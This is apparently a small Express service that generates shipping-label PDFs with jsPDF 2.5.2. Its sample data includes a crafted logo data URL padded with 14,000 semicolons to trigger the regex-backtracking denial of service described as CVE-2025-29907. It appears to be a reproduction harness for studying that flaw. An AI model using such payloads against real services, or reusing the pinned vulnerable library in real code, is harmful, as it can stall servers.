// Express 4: a shipping-label service. Merchants upload their logo at onboarding as a data URL, stored on their
// profile; /x renders the next label of the print queue as a 100x150 mm PDF with jsPDF 2.5.2 and stamps the
// merchant's logo with doc.addImage. One merchant's stored "logo" is a crafted data URL: "data:image/png" followed
// by 14,000 semicolons before ";base64," (the shape of CVE-2025-29907, fixed in jsPDF 3.0.1). The label still
// prints (without the logo) after addImage's data-URL regex has backtracked over the semicolons.
'use strict';
const express = require('express');
const { jsPDF } = require('jspdf');

const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
const merchants = {
  m_204: { name: 'Northwind Outfitters', logo: `data:image/png;base64,${pixel}` },
  m_377: { name: 'Kestrel Home Goods', logo: `data:image/png${';'.repeat(14000)}x;base64,${pixel}` },
};
const queue = [{ id: 'lbl_90211', merchant: 'm_377', to: ['Ada Lovelace', '12 St James Sq', 'London SW1Y 4JH', 'United Kingdom'], service: 'EXPRESS', weightKg: 1.4 }];
let next = 0;

const app = express();
app.get('/health', (req, res) => res.json({ ok: true }));
app.get('/x', (req, res) => {
  const label = queue[next++ % queue.length];
  const merchant = merchants[label.merchant];
  const doc = new jsPDF({ unit: 'mm', format: [100, 150] });
  let logo = true;
  try {
    doc.addImage(merchant.logo, 'PNG', 6, 6, 24, 12);
  } catch (err) {
    logo = false;
  }
  doc.setFontSize(9).text(merchant.name, 34, 12);
  doc.setFontSize(14).text(label.to, 6, 40);
  doc.setFontSize(20).text(`${label.service}  ${label.weightKg} kg`, 6, 90);
  doc.setFontSize(10).text(label.id, 6, 140);
  res.type('application/pdf').set('x-label-logo', String(logo)).send(Buffer.from(doc.output('arraybuffer')));
});

app.listen(Number(process.env.PORT) || 0, '127.0.0.1');
